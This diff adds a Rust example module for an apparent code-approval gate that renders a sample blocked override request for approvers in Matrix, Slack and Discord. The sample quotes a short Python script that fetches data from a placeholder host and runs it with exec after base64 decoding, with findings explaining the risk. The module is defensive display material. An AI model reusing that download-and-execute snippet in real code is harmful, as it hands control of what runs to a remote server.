@@ -1,0 +1,86 @@
+//! The sample BLOCKED request the examples draw (`approver_view`, `screens`): external code that
+//! downloads a payload and runs it, two findings, arguments, the two-person rule.
+
+use airlock_chat_bridge::render::{self, Message, View};
+use airlock_protocol::{
+    Category, CodeDigest, Confidence, Finding, Level, Origin, OverrideAsked, RequestId, TrustLevel,
+};
+
+/// When the sample was asked.
+pub const ASKED_AT: i64 = 1_795_000_000_000;
+/// When it is drawn: three minutes after.
+pub const NOW: i64 = ASKED_AT + 3 * 60_000;
+
+fn finding(line: u32, rule: &str, severity: Level, snippet: &str, explanation: &str) -> Finding {
+    Finding {
+        rule_id: rule.into(),
+        category: Category::MaliciousIntent,
+        severity,
+        confidence: Confidence::High,
+        line,
+        column: 1,
+        snippet: snippet.into(),
+        explanation: explanation.into(),
+        references: vec![],
+    }
+}
+
+pub fn request_id() -> RequestId {
+    RequestId::parse("mai.019a4be1-7c3e-7d12-9f40-5b2a1c9e8d77").unwrap_or_default()
+}
+
+/// The override request, with approvers in each chat system's own ids.
+pub fn asked() -> OverrideAsked {
+    OverrideAsked {
+        level: Level::Blocked,
+        // As the gate writes it: Airlock's sentence first, the requester's label after it as data.
+        explanation: "External python code rated BLOCKED: Downloads code from the network and runs it.\n- label given by the requester: \"fetch_report.py\"\n".into(),
+        findings: vec![
+            finding(3, "AIR-PY-EXEC-DOWNLOADED", Level::Blocked, "exec(base64.b64decode(payload))", "Data fetched from the network is executed: what runs is decided by the server at run time, not by the code that was reviewed."),
+            finding(2, "AIR-PY-URLOPEN-SCHEME", Level::Low, "payload = urllib.request.urlopen('http://reports.example/p').read()", "urllib follows file:// and custom schemes as well as http(s)."),
+        ],
+        code_digest: CodeDigest::of(b"sample"),
+        language: airlock_protocol::Language::Python,
+        origin: Origin::External,
+        code_preview: "import base64, urllib.request\npayload = urllib.request.urlopen('http://reports.example/p').read()\nexec(base64.b64decode(payload))\n".into(),
+        inputs: vec!["arguments: \"--month\" \"2026-10\"".into()],
+        deadline_ms: ASKED_AT + 15 * 60_000,
+        asked_at_ms: ASKED_AT,
+        label: Some("fetch_report.py".into()),
+        requested_quota: Some(TrustLevel::Unknown),
+        approval_quota: Some(TrustLevel::Untrusted),
+        policy_version: "policy-3fa2c1d09b7e".into(),
+        approvers: [
+            ("matrix".to_owned(), vec!["@alice:example.org".to_owned(), "@bob:example.org".to_owned()]),
+            ("slack".to_owned(), vec!["U0ALICE".to_owned(), "U0BOB".to_owned()]),
+            ("discord".to_owned(), vec!["80351110224678912".to_owned(), "80351110224678913".to_owned()]),
+        ]
+        .into(),
+        grant: Some(airlock_protocol::Grant {
+            quota: TrustLevel::Untrusted,
+            limits: airlock_protocol::Quotas::default().untrusted,
+            runtime: airlock_protocol::Runtime::Runsc,
+            network: airlock_protocol::NetworkMode::None,
+        }),
+        approvals_needed: 2,
+        approve_again_max_ms: 8 * 3_600_000,
+        ..OverrideAsked::display_only()
+    }
+}
+
+/// The request as the bridge composes it for `system`, mentioning that system's approvers.
+pub fn message(system: &str) -> Message {
+    let rid = request_id();
+    let asked = asked();
+    let view = View {
+        request_id: &rid,
+        asked: &asked,
+        ended: None,
+        approved_by: &[],
+        system,
+        escalated: false,
+    };
+    let mut message = render::request_message(&view);
+    message.mentions = view.approvers().to_vec();
+    message
+}
